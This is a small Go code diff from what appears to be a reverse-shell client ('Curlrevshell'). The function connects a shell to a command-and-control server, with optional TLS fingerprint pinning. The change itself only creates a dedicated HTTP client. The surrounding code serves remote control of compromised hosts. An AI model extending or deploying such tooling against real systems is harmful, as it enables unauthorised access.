@@ -68,8 +68,9 @@ func GoSimple(ctx context.Context, c2, fingerprint string, args []string) error 
 
 // Go connects a Shell to Curlrevshell.
 func Go(ctx context.Context, conf ConnConfig, shell Shell) error {
-	/* Roll an HTTP client. */
-	client := http.DefaultClient
+	/* Roll an HTTP client.  It's our own, so as to not change
+	http.DefaultClient for everybody else. */
+	client := new(http.Client)
 	/* Add fingerprint verification if we have it. */
 	if "" != conf.Fingerprint {
 		vfp, err := TLSFingerprintVerifier(conf.Fingerprint)
